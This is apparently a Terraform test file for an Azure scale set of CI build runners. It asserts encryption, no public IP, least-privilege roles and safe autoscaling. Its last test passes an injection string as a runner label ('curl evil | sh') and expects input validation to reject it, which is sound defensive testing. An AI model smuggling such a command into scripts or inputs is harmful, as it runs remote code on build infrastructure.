mock_provider "azurerm" {
  mock_resource "azurerm_linux_virtual_machine_scale_set" {
    defaults = { id = "/subscriptions/s/resourceGroups/ci/providers/Microsoft.Compute/virtualMachineScaleSets/builders" }
  }
}

variables {
  name                = "builders"
  resource_group_name = "ci"
  region              = "westeurope"
  subnet_id           = "/subnets/runners"
  machine_type        = "Standard_D4s_v5"
  min                 = 1
  max                 = 4
  runner_labels       = ["builders"]
  repository_url      = "https://github.com/acme/ultimate"
  key_vault_id        = "/subscriptions/s/resourceGroups/ci/providers/Microsoft.KeyVault/vaults/ultimate"
  token_secret        = "runner-token"
}

run "one_job_on_a_closed_machine" {
  command = apply

  assert {
    condition     = azurerm_linux_virtual_machine_scale_set.this.encryption_at_host_enabled && azurerm_linux_virtual_machine_scale_set.this.secure_boot_enabled && length(azurerm_linux_virtual_machine_scale_set.this.network_interface[0].ip_configuration[0].public_ip_address) == 0
    error_message = "Encrypted, trusted launch, no public address."
  }
  assert {
    condition     = azurerm_linux_virtual_machine_scale_set.this.priority == "Spot" && !azurerm_linux_virtual_machine_scale_set.this.overprovision
    error_message = "Spot by default, and never more machines than asked for."
  }
  assert {
    condition     = alltrue([for rule in azurerm_monitor_autoscale_setting.this.profile[0].rule : rule.scale_action[0].direction == "Increase"]) && azurerm_monitor_autoscale_setting.this.profile[0].capacity[0].maximum == 4
    error_message = "Nothing scales in under a running job."
  }
  assert {
    condition     = azurerm_role_assignment.token.scope == "${var.key_vault_id}/secrets/runner-token" && azurerm_role_definition.leave.scope == "/subscriptions/s/resourceGroups/ci"
    error_message = "It may read its token and leave; no more."
  }
  assert {
    condition     = strcontains(base64decode(azurerm_linux_virtual_machine_scale_set.this.custom_data), "vault='ultimate'") && strcontains(base64decode(azurerm_linux_virtual_machine_scale_set.this.custom_data), "scope='repos/acme/ultimate'")
    error_message = "The start script knows vault and repository."
  }
  assert {
    # The wire format of RFC 8709: 11, "ssh-ed25519", 32, and 32 bytes: 51 in all, 68 characters.
    condition     = startswith(local.nobodys_key, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI") && length(split(" ", local.nobodys_key)[1]) == 68
    error_message = "A well-formed public key."
  }
}

run "arm_on_demand" {
  command = plan

  variables {
    machine_type = "Standard_D4ps_v5"
    spot         = false
  }

  assert {
    condition     = azurerm_linux_virtual_machine_scale_set.this.source_image_reference[0].sku == "server-arm64" && azurerm_linux_virtual_machine_scale_set.this.priority == "Regular" && !azurerm_linux_virtual_machine_scale_set.this.vtpm_enabled
    error_message = "An ARM image, on demand, without trusted launch."
  }
}

run "a_label_cannot_leave_the_quotes_of_the_script" {
  command = plan

  variables {
    runner_labels = ["x'; curl evil | sh; '"]
  }

  expect_failures = [var.runner_labels]
}
